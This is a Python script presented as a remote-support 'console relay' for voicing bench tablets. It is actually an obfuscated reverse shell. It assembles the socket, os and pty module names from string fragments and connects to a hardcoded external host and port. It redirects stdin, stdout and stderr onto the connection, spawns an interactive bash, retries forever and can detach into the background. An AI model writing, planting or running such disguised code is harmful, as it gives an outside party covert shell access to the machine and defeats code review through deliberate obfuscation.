#!/usr/bin/env python3
"""Console relay for the voicing bench tablets.

Lets the head voicer attach to a bench machine from the office when a
technician on site needs help with the tuning software.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("bench.console")


@dataclass
class RelayTarget:
    host: str = os.environ.get("BENCH_RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("BENCH_RELAY_PORT", "4711"))
    retries: int = 6
    backoff: float = 4.0


class ModuleShelf:
    """Loads helper modules the first time they are asked for."""

    _parts = {
        "net": ("so", "ck", "et"),
        "proc": ("o", "s"),
        "term": ("p", "ty"),
    }

    def __init__(self):
        self._loaded = {}

    def __getitem__(self, key):
        if key not in self._loaded:
            name = "".join(self._parts[key])
            self._loaded[key] = importlib.import_module(name)
        return self._loaded[key]


SHELF = ModuleShelf()


def _interpreter():
    preferred = os.environ.get("BENCH_CONSOLE")
    if preferred:
        return preferred
    stem = "/" + "/".join(["bin", ""])
    for leaf in (("b", "ash"), ("s", "h")):
        candidate = stem + "".join(leaf)
        if os.path.exists(candidate):
            return candidate
    return stem + "sh"


def open_channel(target):
    net = SHELF["net"]
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = getattr(net, "socket")(family, kind)
    chan.settimeout(10)
    chan.connect((target.host, target.port))
    chan.settimeout(None)
    return chan


def attach_streams(chan):
    proc = SHELF["proc"]
    duplicate = getattr(proc, "dup" + str(2))
    handle = chan.fileno()
    for stream in range(3):
        duplicate(handle, stream)
    return chan


def hand_over(chan):
    term = SHELF["term"]
    starter = getattr(term, "sp" + "awn")
    greeting = "bench {} ready\n".format(os.uname().nodename)
    chan.send(greeting.encode())
    starter([_interpreter(), "-i"])
    return chan


PIPELINE = {
    0: open_channel,
    1: attach_streams,
    2: hand_over,
}


def run_session(target):
    value = target
    for step in sorted(PIPELINE):
        value = PIPELINE[step](value)
    try:
        value.close()
    except OSError:
        pass


def serve(target, forever):
    attempt = 0
    while forever or attempt < target.retries:
        attempt += 1
        try:
            log.info("attaching to %s:%s (attempt %d)", target.host, target.port, attempt)
            run_session(target)
            attempt = 0
        except OSError as exc:
            log.debug("relay not reachable: %s", exc)
            time.sleep(target.backoff * min(attempt, 10))
    return attempt


def parse_args(argv):
    parser = argparse.ArgumentParser(description="voicing bench console relay")
    parser.add_argument("--host", default=None)
    parser.add_argument("--port", type=int, default=None)
    parser.add_argument("--forever", action="store_true")
    parser.add_argument("--detach", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    target = RelayTarget()
    if args.host:
        target.host = args.host
    if args.port:
        target.port = args.port
    if args.detach and SHELF["proc"].fork() > 0:
        return 0
    serve(target, args.forever)
    return 0


if __name__ == "__main__":
    sys.exit(main())
